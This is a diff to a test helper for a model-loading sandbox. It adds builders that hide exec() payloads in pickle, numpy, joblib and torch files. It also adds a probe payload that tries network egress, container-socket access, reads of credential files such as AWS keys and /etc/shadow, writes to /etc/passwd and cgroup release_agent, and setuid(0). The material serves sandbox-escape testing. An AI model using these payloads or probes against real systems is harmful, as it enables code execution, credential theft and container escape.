@@ -87,3 +87,210 @@ os._exit(0)
 def fake_success_pickle(path: Path, sleep_seconds: float = 0.0, tensor: str = "x") -> Path:
     path.write_bytes(reduce_pickle(fake_success_source(sleep_seconds, tensor)))
     return path
+
+
+# -- carriers: how a payload's source gets executed in the sandbox ------------------------------
+
+
+def npy_object_array(source: str) -> bytes:
+    """A ``.npy`` file holding a pickled object array whose one element is ``exec(source)``.
+
+    ``numpy.load(allow_pickle=True)`` runs it. It lands in the light worker profile (numpy
+    only), so it is the cheapest carrier for post-exploitation and output-path payloads. The
+    file is built by hand: magic, version 1.0, header dict, then the pickle.
+    """
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
+    body = pickle.dumps(_ObjectArray(source), protocol=3)
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + body
+
+
+class _ObjectArray:
+    """Pickles as a list holding ``exec(source)``: what numpy unpickles for ``|O`` arrays is
+    any object, then ``asarray`` over it; the code has run by then."""
+
+    def __init__(self, source: str) -> None:
+        self.source = source
+
+    def __reduce__(self) -> tuple[object, tuple[list[_Exec]]]:
+        return (list, ([_Exec(self.source)],))
+
+
+def joblib_payload(source: str, compress: int = 3) -> bytes:
+    """A zlib-compressed joblib file whose pickled estimator attribute runs ``source``."""
+    import joblib
+
+    buf = io.BytesIO()
+    joblib.dump({"estimator": {"coef_": [1.0, 2.0], "hook": _Exec(source)}}, buf,
+                compress=compress)
+    return buf.getvalue()
+
+
+def write_carrier(path: Path, carrier: str, source: str) -> Path:
+    """``source`` packed as a reduce payload in ``carrier``: pickle, npy, joblib or torch."""
+    if carrier == "pickle":
+        path.write_bytes(reduce_pickle(source))
+    elif carrier == "npy":
+        path.write_bytes(npy_object_array(source))
+    elif carrier == "joblib":
+        path.write_bytes(joblib_payload(source))
+    elif carrier == "torch":
+        malicious_torch_zip(path, source)
+    else:
+        raise ValueError(carrier)
+    return path
+
+
+# -- in-sandbox probes: benign, observable, reported through the validated output -------------
+
+#: Runs first in every probe payload: ``probe(name, fn)`` records "OK[:detail]" or the errno
+#: name (or exception type) of the attempt in ``findings``.
+PROBE_PRELUDE = """
+import errno, json, os, socket, struct, sys, time
+findings = {}
+def probe(name, fn):
+    try:
+        got = fn()
+        findings[name] = "OK" if got is None else "OK:" + str(got)[:2000]
+    except OSError as exc:
+        code = errno.errorcode.get(exc.errno or 0)
+        findings[name] = code or (type(exc).__name__ + ":" + str(exc)[:80])
+    except BaseException as exc:
+        findings[name] = type(exc).__name__ + ":" + str(exc)[:80]
+"""
+
+#: Runs last: the findings leave the sandbox the only way anything does, as a safetensors output
+#: the broker validates (kept in its ``__metadata__``), and the worker exits 0.
+PROBE_EPILOGUE = """
+def _emit(marker):
+    meta = {"marker": marker, "findings": json.dumps(findings, sort_keys=True)}
+    doc = {"__metadata__": meta, "x": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}
+    header = json.dumps(doc).encode()
+    header += b" " * (-len(header) % 8)
+    with open("/airlock/out/model.safetensors", "wb") as fh:
+        fh.write(struct.pack("<Q", len(header)) + header + b"\\0")
+    os._exit(0)
+_emit(MARKER)
+"""
+
+
+def probe_source(case: str, body: str, **params: object) -> str:
+    """A payload: prelude, ``NAME = value`` for each param, ``body``, then the findings out."""
+    assigns = "".join(f"{name.upper()} = {value!r}\n" for name, value in params.items())
+    full = PROBE_PRELUDE + f"MARKER = {'PWNED-' + case!r}\n" + assigns + body + PROBE_EPILOGUE
+    # exec() from a pickle runs in the unpickler's frame; give the payload its own globals.
+    return f"exec({full!r}, {{'__name__': 'payload'}})"
+
+
+#: B: post-exploitation from inside the sandbox. Parameters: HOSTS (host addresses the harness
+#: listens on), TCP_PORT, UDP_PORT, BROKER_PORT.
+POST_EXPLOITATION = r"""
+def tcp(host, port):
+    s = socket.create_connection((host, port), timeout=2)
+    s.sendall(MARKER.encode()); s.close()
+def udp(family, host, port):
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    s.sendto(MARKER.encode(), (host, port)); s.close()
+dns_query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
+def udp_dns():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(2); s.sendto(dns_query, ("8.8.8.8", 53)); return s.recv(512)
+def icmp(kind):
+    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
+    s.settimeout(2); s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("8.8.8.8", 0)); s.close()
+# B1 egress, B2 host / metadata / broker
+for host, port in [("8.8.8.8", 53), ("1.1.1.1", 443), ("169.254.169.254", 80)]:
+    probe(f"egress.tcp.{host}:{port}", lambda: tcp(host, port))
+for host in HOSTS:
+    probe(f"host.tcp.{host}:{TCP_PORT}", lambda: tcp(host, TCP_PORT))
+    probe(f"host.tcp.{host}:{BROKER_PORT}", lambda: tcp(host, BROKER_PORT))
+    # To its own loopback a datagram is "sent" (nobody there): the host listener is the oracle.
+    kind = "info" if host == "127.0.0.1" else "host"
+    probe(f"{kind}.udp.{host}:{UDP_PORT}", lambda: udp(socket.AF_INET, host, UDP_PORT))
+probe("egress.udp.dns", udp_dns)
+probe("egress.dns.resolve", lambda: socket.getaddrinfo("example.com", 443))
+probe("egress.tcp6", lambda: socket.create_connection(("2001:4860:4860::8888", 53), timeout=2))
+probe("egress.udp6", lambda: udp(socket.AF_INET6, "2001:4860:4860::8888", 53))
+probe("egress.icmp.raw", lambda: icmp(socket.SOCK_RAW))
+probe("egress.icmp.dgram", lambda: icmp(socket.SOCK_DGRAM))
+probe("info.interfaces", lambda: ",".join(sorted(os.listdir("/sys/class/net"))))
+# B3 engine sockets
+for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
+             "/var/run/containerd/containerd.sock", "/run/runc", "/var/run/docker"):
+    def unix(path=path):
+        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.close()
+    probe(f"socket.{path}", unix)
+probe("socket.abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0/containerd-shim"))
+# B4 secrets
+SECRET_WORDS = ("TOKEN", "SECRET", "PASSWORD", "KEY", "AWS", "PROXY", "DOCKER", "AIRLOCK", "CRED")
+probe("secrets.env", lambda: ",".join(k for k in os.environ if any(w in k.upper() for w in SECRET_WORDS)) or None)
+def pid1_env():
+    with open("/proc/1/environ", "rb") as fh:
+        keys = [e.split(b"=", 1)[0].decode() for e in fh.read().split(b"\0") if e]
+    return ",".join(k for k in keys if any(w in k.upper() for w in SECRET_WORDS)) or None
+probe("secrets.pid1_env", pid1_env)
+for path in ("/root/.aws/credentials", os.path.expanduser("~/.aws/credentials"),
+             os.path.expanduser("~/.cache/huggingface/token"), "/root/.docker/config.json",
+             "/etc/shadow", "/run/secrets"):
+    probe(f"secrets.read.{path}", lambda: open(path, "rb").read(16) and "readable")
+def mounts():
+    with open("/proc/self/mountinfo") as fh:
+        return ",".join(sorted({line.split()[4] for line in fh}))
+probe("info.mounts", mounts)
+# B5 writes outside the sandbox's scratch space, and B8 kernel-escape regressions
+import glob
+site = (glob.glob("/usr/lib/python3*/site-packages") + glob.glob("/usr/local/lib/python3*/site-packages")
+        + glob.glob("/usr/lib/python3/dist-packages"))
+import airlock_worker
+targets = ["/pwned", "/etc/pwned", "/airlock/in/pwned", "/airlock/pwned",
+           os.path.join(os.path.dirname(airlock_worker.__file__), "pwned.py")] + [
+           os.path.join(p, "pwned.pth") for p in site]
+for path in targets:
+    probe(f"write.create.{path}", lambda: open(path, "x").close())
+for path in ("/airlock/in/artifact", "/etc/passwd", "/proc/sys/kernel/core_pattern",
+             "/proc/sysrq-trigger", "/proc/self/exe", sys.executable):
+    probe(f"write.open.{path}", lambda: os.close(os.open(path, os.O_WRONLY)))
+for path in glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent"):
+    probe(f"write.open.{path}", lambda: os.close(os.open(path, os.O_WRONLY)))
+probe("write.chmod./airlock/in/artifact", lambda: os.chmod("/airlock/in/artifact", 0o777))
+# B6 exec from the writable mounts
+import shutil, subprocess, ctypes
+for d in ("/tmp", "/dev/shm", "/airlock/out"):
+    def run_copy(d=d):
+        target = os.path.join(d, "pwned-exec")
+        shutil.copy("/bin/true", target); os.chmod(target, 0o755)
+        try:
+            return subprocess.run([target], timeout=5).returncode
+        finally:
+            os.unlink(target)
+    probe(f"exec.binary.{d}", run_copy)
+    def load_lib(d=d):
+        lib = sorted(glob.glob("/usr/lib/python3*/lib-dynload/_json*.so") + glob.glob("/usr/local/lib/python3*/lib-dynload/_json*.so"))[0]
+        target = os.path.join(d, "pwned.so")
+        shutil.copy(lib, target)
+        try:
+            ctypes.CDLL(target)
+        finally:
+            os.unlink(target)
+    probe(f"exec.library.{d}", load_lib)
+# B11 devices
+for path in ("/dev/kvm", "/dev/mem", "/dev/kmem", "/dev/nvidia0", "/dev/nvidiactl", "/dev/sda",
+             "/dev/vda", "/dev/fuse", "/dev/net/tun", "/dev/dri/card0"):
+    probe(f"device.{path}", lambda: os.close(os.open(path, os.O_RDONLY)))
+probe("info.dev", lambda: ",".join(sorted(os.listdir("/dev"))))
+# capabilities and identity (privilege-escalation syscalls are the seccomp tests' job)
+def status_field(name):
+    with open("/proc/self/status") as fh:
+        for line in fh:
+            if line.startswith(name + ":"):
+                return line.split()[1]
+    return "absent"
+probe("info.uid", lambda: f"{os.getuid()}:{os.geteuid()}")
+probe("info.CapEff", lambda: status_field("CapEff"))
+probe("info.CapPrm", lambda: status_field("CapPrm"))
+probe("info.CapBnd", lambda: status_field("CapBnd"))
+probe("info.NoNewPrivs", lambda: status_field("NoNewPrivs"))
+probe("privesc.setuid0", lambda: os.setuid(0))
+probe("info.processes", lambda: ",".join(p for p in os.listdir("/proc") if p.isdigit()))
+"""
